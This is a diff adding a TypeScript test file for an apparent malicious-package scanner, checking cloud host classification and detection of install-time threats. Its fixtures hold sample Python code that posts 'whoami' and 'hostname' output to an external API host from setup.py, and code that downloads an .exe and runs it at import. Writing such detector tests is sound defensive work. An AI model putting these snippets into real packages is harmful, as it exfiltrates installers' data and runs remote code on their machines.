@@ -1,0 +1,57 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { analyzePython } from '../../../src/analysis/python/index.js';
+import { classifyHost } from '../../../src/analysis/python/values.js';
+import { DEFAULT_LIMITS } from '../../../src/core/limits.js';
+import type { FileEntry, FileTree } from '../../../src/core/types.js';
+import { scoreFindings } from '../../../src/scoring/score.js';
+
+async function scan(files: Record<string, string>) {
+  const entries: FileEntry[] = Object.entries(files).map(([path, text]) => {
+    const data = new TextEncoder().encode(text);
+    return { path, data, size: data.byteLength };
+  });
+  const tree: FileTree = { format: 'directory', files: entries, issues: [], totalBytes: 0 };
+  const out = await analyzePython(tree, { ecosystem: 'pypi', artifact: 'x', limits: DEFAULT_LIMITS, deadline: performance.now() + 10_000 });
+  return { out, score: scoreFindings(out.findings) };
+}
+
+test('hosts anyone can deploy to on a vendor domain are not vendor endpoints', () => {
+  assert.equal(classifyHost('abc123.execute-api.us-east-1.amazonaws.com'), 'unknown');
+  assert.equal(classifyHost('evil.s3.amazonaws.com'), 'unknown');
+  assert.equal(classifyHost('x.azurewebsites.net'), 'unknown');
+  assert.equal(classifyHost('sts.amazonaws.com'), 'vendor');
+  assert.equal(classifyHost('storage.googleapis.com'), 'vendor');
+});
+
+test('reconnaissance command output sent at install is exfiltration, whichever branch assigned the data', async () => {
+  const { out, score } = await scan({
+    'pkg-1/setup.py': [
+      'import os, platform',
+      'from urllib import request, parse',
+      'try:',
+      "    data = {'user': os.popen('whoami').read(), 'host': os.popen('hostname').read()}",
+      'except Exception:',
+      "    data = {'error': 'n/a'}",
+      "request.urlopen(request.Request('https://a1b2c3.execute-api.us-east-1.amazonaws.com/x', data=parse.urlencode(data).encode()))",
+      "from setuptools import setup\nsetup(name='x')",
+    ].join('\n'),
+  });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  const f = out.findings.find((x) => x.ruleId === 'py/host-data-exfiltration');
+  assert.ok(f !== undefined && /recon:user/.test(f.message), f?.message);
+});
+
+test('a download run from a function the import-time code calls is download-and-execute', async () => {
+  const { score } = await scan({
+    'pkg/__init__.py': [
+      'import requests, subprocess',
+      "r = requests.get('https://files.example.invalid/setup.exe')",
+      "open('setup-helper.exe', 'wb').write(r.content)",
+      'def go():',
+      "    subprocess.call(['setup-helper.exe'])",
+      'go()',
+    ].join('\n'),
+  });
+  assert.equal(score.verdict, 'malicious', score.reason);
+});
